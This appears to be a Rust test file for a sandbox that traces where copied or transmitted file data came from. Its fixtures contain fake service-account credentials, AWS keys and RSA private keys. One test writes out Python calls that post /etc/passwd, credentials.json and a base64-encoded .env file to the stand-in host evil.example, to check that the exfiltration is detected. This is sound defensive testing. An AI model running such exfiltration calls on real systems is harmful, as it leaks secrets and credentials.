//! Whatever way a labelled file is copied, the copy tells where it is from.

use super::{
    ways::{WAYS, Way},
    *,
};

/// The kinds of sources, with a line that tells.
const KINDS: [(&str, u32); 4] =
    [("credentials.json", 5), (".env", 2), ("id_rsa", 3), ("/etc/passwd", 0)];

fn content(kind: usize, chance: &mut Chance) -> String {
    match kind {
        0 => format!(
            "{{\n  \"type\": \"service_account\",\n  \"project_id\": \"acme-{}\",\n  \
             \"private_key_id\": \"{}\",\n  \"private_key\": \"{}\",\n  \
             \"client_email\": \"robot@acme-{}.iam.example.com\",\n  \"client_id\": \"{}\"\n}}\n",
            chance.text(6),
            chance.text(40),
            chance.text(400),
            chance.text(6),
            chance.next(),
        ),
        1 => format!(
            "APP_ENV=production\nDATABASE_URL=postgres://app:{}@db.internal:5432/{}\n\
             SECRET_KEY={}\nAWS_ACCESS_KEY_ID=AKIA{}\nAWS_SECRET_ACCESS_KEY={}\nDEBUG=false\n",
            chance.text(20),
            chance.text(6),
            chance.text(50),
            chance.text(16).to_uppercase(),
            chance.text(40),
        ),
        _ => {
            let lines: Vec<String> = (0..12).map(|_| chance.text(64)).collect();
            format!(
                "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n",
                lines.join("\n")
            )
        }
    }
}

/// The source of the way at `at`, by its name in the workspace or outside of it, and its line.
fn source(at: usize, turn: usize, way: &Way) -> (usize, String, u32) {
    let mut kind = (at + turn) % KINDS.len();
    if kind == 3 && !way.outside {
        kind = 0;
    }
    let (name, line) = KINDS[kind];
    let name = if kind == 3 { name.to_owned() } else { format!("own/{at}/{name}") };
    // Of the accounts, only those tell that not every system has.
    let last = || std::fs::read_to_string("/etc/passwd").map_or(1, |text| text.lines().count());
    (kind, name, if kind == 3 { u32::try_from(last()).unwrap() } else { line })
}

/// Each way with a source of its own, so that no copy is recognised by another one.
fn copies_are_recognised(mode: Mode, turn: usize) {
    let fill = |workspace: &Path| {
        let mut chance = Chance(u64::try_from(turn).unwrap() + 1);
        for (at, way) in WAYS.iter().enumerate() {
            let (kind, name, _) = source(at, turn, way);
            if kind < 3 {
                write(&workspace.join(name), content(kind, &mut chance), 0o600);
            }
        }
    };
    let Some(bench) = Bench::open(mode, fill) else { return };
    let mut missed = Vec::new();
    for (at, way) in WAYS.iter().enumerate() {
        let (kind, name, line) = source(at, turn, way);
        let origin = if kind == 3 { name } else { bench.inside(&name) };
        let folder = bench.inside(&format!("copies/{at}"));
        for step in way.steps {
            let before = bench.checkpoint();
            bench.bash(&format!("S='{origin}' D='{folder}' N={line}; mkdir -p $D; {step}"));
            let seen = bench.effects(&before).files;
            assert_eq!(seen.incomplete, None);
            let new: Vec<_> =
                seen.items.iter().filter(|file| file.path.starts_with(&folder)).collect();
            let found = new.iter().any(|file| file.origin.as_deref() == Some(origin.as_str()));
            let wrong = new.iter().filter_map(|file| file.origin.as_ref());
            let wrong: Vec<_> = wrong.filter(|found| **found != origin).collect();
            let makes_nothing = step.starts_with("seq 1 500") && !step.contains("$S");
            // A rename tells the name before it.
            let moves = step.starts_with("mv ") && wrong.iter().all(|path| path.ends_with("/tmp"));
            if !makes_nothing && (!found || !wrong.is_empty() && !moves) {
                missed.push(format!("{} of {origin} in `{step}`: {new:?}", way.name));
            }
        }
    }
    assert!(missed.is_empty(), "{mode:?}: {} missed: {missed:#?}", missed.len());
}

#[test]
fn copies_in_a_layer_are_recognised() {
    for turn in 0..KINDS.len() {
        copies_are_recognised(Mode::Layered, turn);
    }
}

#[test]
fn copies_in_the_directory_itself_are_recognised() {
    copies_are_recognised(Mode::Direct, 1);
}

#[test]
fn copies_are_recognised_without_namespaces() {
    copies_are_recognised(Mode::Landlock, 2);
}

#[test]
fn what_is_sent_has_an_origin() {
    for mode in [Mode::Layered, Mode::Direct] {
        let fill = |workspace: &Path| {
            let mut chance = Chance(7);
            write(&workspace.join("credentials.json"), content(0, &mut chance), 0o600);
            write(&workspace.join(".env"), content(1, &mut chance), 0o600);
        };
        let Some(bench) = Bench::open(mode, fill) else { return };
        let sent = |code: &str| {
            let before = bench.checkpoint();
            bench.python(&format!(
                "import base64, urllib.request\ntry:\n    urllib.request.urlopen({code}, \
                 timeout=5).read()\nexcept Exception as error:\n    print(error)"
            ));
            let seen = bench.effects(&before).connections.items;
            let mut sent = seen.into_iter().filter(|one| one.host == "evil.example");
            sent.find(|one| one.port == 80).unwrap()
        };
        let post =
            |file: &str| sent(&format!("'http://evil.example/', data=open('{file}', 'rb').read()"));
        assert_eq!(post("/etc/passwd").payload_origin.as_deref(), Some("/etc/passwd"));
        let credentials = bench.inside("credentials.json");
        assert_eq!(post("credentials.json").payload_origin, Some(credentials));
        let encoded = "'http://evil.example/?q=' + base64.urlsafe_b64encode(open('.env', 'rb').read()).decode()";
        assert_eq!(sent(encoded).payload_origin, Some(bench.inside(".env")));
        let harmless = sent("'http://evil.example/', data=b'{\"query\": \"weather in Paris\"}'");
        assert_eq!((harmless.payload_origin, harmless.origin_unknown), (None, None));
    }
}
